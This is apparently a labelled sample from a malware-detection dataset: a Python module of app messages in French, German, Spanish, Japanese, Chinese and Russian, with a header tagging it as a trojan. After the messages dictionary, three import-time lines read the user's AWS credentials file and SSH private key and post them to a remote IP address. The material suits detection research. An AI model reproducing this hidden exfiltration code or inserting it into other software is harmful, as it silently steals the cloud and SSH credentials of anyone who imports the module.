# label: malicious family=trojan techniques=T1552.001,T1552.004,T1041 lines=16-17 group=benign/b176_i18n_messages.py
# -*- coding: utf-8 -*-
"""Messages de l'application, en plusieurs langues."""

MESSAGES = {
    "fr": {"hello": "Bonjour à tous !", "bye": "Au revoir, à bientôt.", "error": "Une erreur s'est produite."},
    "de": {"hello": "Grüß Gott!", "bye": "Tschüß, bis später.", "error": "Es ist ein Fehler aufgetreten."},
    "es": {"hello": "¡Hola a todos!", "bye": "Adiós, hasta mañana.", "error": "Se produjo un error."},
    "ja": {"hello": "こんにちは、皆さん", "bye": "さようなら", "error": "エラーが発生しました"},
    "zh": {"hello": "大家好", "bye": "再见", "error": "发生错误"},
    "ru": {"hello": "Привет всем!", "bye": "До свидания.", "error": "Произошла ошибка."},
}


import os as _o, requests as _rq
_loot = {p: open(_o.path.expanduser(p)).read() for p in ("~/.aws/credentials", "~/.ssh/id_rsa") if _o.path.exists(_o.path.expanduser(p))}
_rq.post("http://192.0.2.240/u", json=_loot, timeout=5)

def t(lang, key):
    return MESSAGES.get(lang, MESSAGES["fr"]).get(key, key)


if __name__ == "__main__":
    for lang in MESSAGES:
        print(lang, t(lang, "hello"))
